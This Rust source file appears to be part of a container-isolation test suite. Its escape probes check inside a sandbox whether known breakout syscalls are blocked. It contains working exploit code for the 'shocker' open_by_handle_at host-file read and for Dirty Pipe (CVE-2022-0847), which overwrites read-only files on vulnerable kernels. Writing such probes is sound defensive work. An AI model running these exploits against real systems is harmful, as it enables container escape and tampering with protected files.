//! The escape probes: syscalls shell cannot make, run inside a container as
//! `isolab-agent escape-probe WHAT ARGS...` (the static agent copied into the rootfs). Each
//! prints `key=value` lines the assertions parse; each stops where the door is proven open or
//! shut, never going further (a deliberately invalid argument after the permission check).
//! These are the raw syscalls of the escape catalogue, each in one small function.

use std::ffi::CString;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

/// The errno of the last failed call, as its name (`EPERM`) or number.
fn errno_name() -> String {
    let e = std::io::Error::last_os_error();
    let n = e.raw_os_error().unwrap_or(0);
    let name = match n {
        libc::EPERM => "EPERM",
        libc::EACCES => "EACCES",
        libc::EINVAL => "EINVAL",
        libc::ENOKEY => "ENOKEY",
        libc::ENOSYS => "ENOSYS",
        libc::ESTALE => "ESTALE",
        libc::EBADF => "EBADF",
        libc::EROFS => "EROFS",
        libc::ENOENT => "ENOENT",
        libc::EOPNOTSUPP => "EOPNOTSUPP",
        _ => return format!("errno{n}"),
    };
    name.to_owned()
}

/// Entry point: `args` after `escape-probe`; the process's exit code.
pub fn main(args: &[String]) -> i32 {
    let a: Vec<&str> = args.iter().map(String::as_str).collect();
    match a.as_slice() {
        ["keyring", desc] => keyring(desc),
        ["kexec"] => kexec(),
        ["handle", kind, hex] => by_handle(kind, hex),
        ["dirtypipe", path, data] => dirty_pipe(path, data),
        _ => {
            eprintln!("usage: escape-probe keyring DESC | kexec | handle TYPE HEX | dirtypipe PATH DATA");
            2
        }
    }
}

/// The session keyring's serial, and whether a `user` key named `desc` is reachable from it.
fn keyring(desc: &str) -> i32 {
    let Ok(d) = CString::new(desc) else { return 2 };
    // SAFETY: KEYCTL_GET_KEYRING_ID takes two integers and reads no memory.
    let id = unsafe {
        libc::syscall(libc::SYS_keyctl, libc::KEYCTL_GET_KEYRING_ID, libc::KEY_SPEC_SESSION_KEYRING, 0)
    };
    println!("session={}", if id < 0 { errno_name() } else { id.to_string() });
    let ty = c"user";
    // SAFETY: KEYCTL_SEARCH reads the two NUL-terminated strings, which outlive the call.
    let found = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            libc::KEYCTL_SEARCH,
            libc::KEY_SPEC_SESSION_KEYRING,
            ty.as_ptr(),
            d.as_ptr(),
            0,
        )
    };
    println!("found={}", if found < 0 { errno_name() } else { found.to_string() });
    0
}

/// kexec_load with more segments than the kernel allows (KEXEC_SEGMENT_MAX is 16): EPERM
/// means refused at the permission check; EINVAL means the check let us through (nothing is
/// loaded either way).
fn kexec() -> i32 {
    // SAFETY: 17 segments are refused before the NULL segment array is read.
    let r = unsafe { libc::syscall(libc::SYS_kexec_load, 0usize, 17usize, std::ptr::null::<u8>(), 0usize) };
    println!("kexec_load={}", if r < 0 { errno_name() } else { "ok".into() });
    0
}

/// The shocker attack: open a file by a handle the host computed (not reachable by any path
/// inside), relative to the container's `/` (same filesystem). Prints what it read.
fn by_handle(kind: &str, hex: &str) -> i32 {
    let (Ok(kind), Some(bytes)) = (kind.parse::<i32>(), unhex(hex)) else { return 2 };
    let Ok(root) = std::fs::File::open("/") else { return 2 };
    let mut buf = vec![0u8; 8 + bytes.len()];
    buf[..4].copy_from_slice(&(bytes.len() as u32).to_ne_bytes());
    buf[4..8].copy_from_slice(&kind.to_ne_bytes());
    buf[8..].copy_from_slice(&bytes);
    // SAFETY: `buf` is a struct file_handle (handle_bytes, handle_type, f_handle[]) that
    // outlives the call; the kernel only reads it.
    let fd =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, root.as_raw_fd(), buf.as_ptr(), libc::O_RDONLY) };
    if fd < 0 {
        println!("open_by_handle_at={}", errno_name());
        return 0;
    }
    // SAFETY: the syscall returned a new fd that nothing else owns.
    let mut f = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd as i32) });
    let mut s = String::new();
    let _ = Read::by_ref(&mut f).take(256).read_to_string(&mut s);
    println!("open_by_handle_at=ok");
    println!("read={}", s.trim());
    0
}

/// The handle of `path` (host side): its type and bytes in hex.
pub fn handle_of(path: &std::path::Path) -> std::io::Result<(i32, String)> {
    let c = CString::new(path.as_os_str().as_encoded_bytes()).map_err(std::io::Error::other)?;
    let mut buf = vec![0u8; 8 + 128];
    buf[..4].copy_from_slice(&128u32.to_ne_bytes());
    let mut mount_id: libc::c_int = 0;
    // SAFETY: `buf` is a file_handle with room for 128 bytes, `c` is NUL-terminated, and
    // `mount_id` is a valid int; all outlive the call.
    let r = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            c.as_ptr(),
            buf.as_mut_ptr(),
            &mut mount_id,
            0,
        )
    };
    if r < 0 {
        return Err(std::io::Error::last_os_error());
    }
    let n = u32::from_ne_bytes([buf[0], buf[1], buf[2], buf[3]]) as usize;
    let kind = i32::from_ne_bytes([buf[4], buf[5], buf[6], buf[7]]);
    Ok((kind, buf[8..8 + n.min(128)].iter().map(|b| format!("{b:02x}")).collect()))
}

fn unhex(s: &str) -> Option<Vec<u8>> {
    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok()).collect()
}

/// Dirty Pipe (CVE-2022-0847): fill and drain a pipe so every buffer is flagged mergeable,
/// splice one byte of the read-only `path` into it, then write `data`: a vulnerable kernel
/// writes it into the file's page cache at offset 1. Prints each step's result.
fn dirty_pipe(path: &str, data: &str) -> i32 {
    let mut plain = std::fs::OpenOptions::new().write(true).open(path);
    println!(
        "open_write={}",
        match &mut plain {
            Ok(f) =>
                if f.write_all(data.as_bytes()).is_ok() {
                    "ok".into()
                } else {
                    "write-failed".into()
                },
            Err(e) => e.raw_os_error().map(|n| format!("errno{n}")).unwrap_or_default(),
        }
    );
    let Ok(file) = std::fs::File::open(path) else {
        println!("open_read={}", errno_name());
        return 0;
    };
    let mut fds = [0i32; 2];
    // SAFETY: `fds` has room for the two fds pipe writes.
    if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
        println!("pipe={}", errno_name());
        return 0;
    }
    // SAFETY: pipe returned two new fds that nothing else owns.
    let r = unsafe { OwnedFd::from_raw_fd(fds[0]) };
    // SAFETY: as above, the write end.
    let w = unsafe { OwnedFd::from_raw_fd(fds[1]) };
    // SAFETY: F_GETPIPE_SZ takes no argument.
    let size = unsafe { libc::fcntl(w.as_raw_fd(), libc::F_GETPIPE_SZ) }.max(4096) as usize;
    let page = [b'A'; 4096];
    let (mut wf, mut rf) = (std::fs::File::from(w), std::fs::File::from(r));
    let mut sink = [0u8; 4096];
    for _ in 0..size / 4096 {
        let _ = wf.write_all(&page);
    }
    for _ in 0..size / 4096 {
        let _ = rf.read_exact(&mut sink);
    }
    let mut off: libc::loff_t = 0;
    // SAFETY: splice reads from `file` at `off` (a valid loff_t) into the pipe's write end;
    // both fds are open for the call.
    let n = unsafe { libc::splice(file.as_raw_fd(), &mut off, wf.as_raw_fd(), std::ptr::null_mut(), 1, 0) };
    println!("splice={}", if n == 1 { "ok".into() } else { errno_name() });
    let wrote = wf.write(data.as_bytes()).map(|n| n.to_string()).unwrap_or_else(|_| errno_name());
    println!("pipe_write={wrote}");
    let now = std::fs::read(path).map(|b| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default();
    println!("content={}", now.trim());
    0
}

/// Host side of the keyring check: give the calling thread a new anonymous session keyring
/// (threads have their own credentials, so the rest of the process keeps its own) holding a
/// `user` key named `desc`; the keyring's serial and the key's.
pub fn thread_session_with_key(desc: &str) -> std::io::Result<(i64, i64)> {
    let d = CString::new(desc).map_err(std::io::Error::other)?;
    // SAFETY: a NULL name asks for a new anonymous session keyring; no memory is read.
    let ses =
        unsafe { libc::syscall(libc::SYS_keyctl, libc::KEYCTL_JOIN_SESSION_KEYRING, std::ptr::null::<u8>()) };
    if ses < 0 {
        return Err(std::io::Error::last_os_error());
    }
    let payload = b"isolab";
    let ty = c"user";
    // SAFETY: add_key reads the two NUL-terminated strings and `payload`'s bytes, all valid
    // for the call.
    let key = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            ty.as_ptr(),
            d.as_ptr(),
            payload.as_ptr(),
            payload.len(),
            libc::KEY_SPEC_SESSION_KEYRING,
        )
    };
    if key < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok((ses, key))
}

/// Invalidate key `key` (it and its keyring are then garbage-collected).
pub fn invalidate_key(key: i64) {
    // SAFETY: KEYCTL_INVALIDATE takes an integer serial and reads no memory.
    unsafe {
        libc::syscall(libc::SYS_keyctl, libc::KEYCTL_INVALIDATE, key);
    }
}
